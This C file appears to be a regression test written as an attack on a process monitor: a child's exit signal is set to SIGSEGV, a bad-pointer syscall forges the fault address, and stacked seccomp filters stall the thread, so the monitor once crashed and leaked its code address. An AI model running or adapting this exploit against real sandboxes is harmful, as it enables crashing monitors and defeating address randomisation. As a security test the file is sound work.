// A child's exit signal that looks like a fault of the monitor's own. clone(2) lets the payload choose SIGSEGV as the
// exit signal. The kernel's siginfo then has CLD_EXITED, which is SEGV_MAPERR, and the child's pid and uid stand where a
// fault has its address. A call with a bad pointer before makes the thread's last fault lie at that very address. Seven
// filters of 4096 instructions keep the thread in the monitor's code until the child ends.
//
// Before the mend the monitor took the signal for a bug of its own and ended. Its last line, which goes to the payload's
// stderr, had the address of its text; a process that was forked before has its monitor at the same address.
#include "attack.h"
#include <linux/filter.h>
#include <linux/seccomp.h>

static volatile int got;

static void caught(int sig) { got += sig != 0; }

static void slow_getppid(void) {
    static struct sock_filter f[4096];
    struct sock_fprog program = {4096, f};
    f[0] = (struct sock_filter)BPF_STMT(BPF_LD | BPF_W | BPF_ABS, 0);
    f[1] = (struct sock_filter)BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_getppid, 1, 0);
    f[2] = (struct sock_filter)BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW);
    for (int i = 3; i < 4095; i++)
        f[i] = (struct sock_filter)BPF_STMT(BPF_ALU | BPF_ADD | BPF_K, 1);
    f[4095] = f[2];
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    for (int i = 0; i < 7; i++)
        if (prctl(PR_SET_SECCOMP, SECCOMP_MODE_FILTER, &program, 0, 0) < 0)
            attack_broken("seccomp");
}

static void victim(void *stderr_of_parent) {
    struct sigaction action = {.sa_handler = caught};
    dup2(*(int *)stderr_of_parent, 2);
    sigaction(SIGSEGV, &action, NULL);
    slow_getppid();
    while (!attack_over()) {
        int before = got;
        long child = syscall(SYS_clone, SIGSEGV, 0, 0, 0, 0);
        if (child < 0)
            continue;
        if (child == 0) {
            usleep(4000);
            _exit(0);
        }
        // The address of the last fault: si_pid, then si_uid.
        if (syscall(SYS_sigaltstack, (unsigned long)getuid() << 32 | (unsigned long)child, NULL) == 0)
            attack_broken("sigaltstack reads where nothing is mapped");
        for (int i = 0; i < 2000 && got == before; i++)
            syscall(SYS_getppid);
        while (waitpid((pid_t)child, NULL, __WALL) < 0 && errno == EINTR)
            ;
    }
    if (!got)
        attack_broken("no signal of a child came");
}

int main(void) {
    int words[2];
    char line[512] = "";
    if (pipe(words) < 0)
        attack_broken("pipe");
    attack_over();
    int status = attack_child(victim, &words[1]);
    close(words[1]);
    if (read(words[0], line, sizeof line - 1) > 0)
        attack_won("the monitor has ended and said: %s", line);
    if (!WIFEXITED(status) || WEXITSTATUS(status))
        attack_won("the victim ended with status %#x", status);
    attack_lost();
}
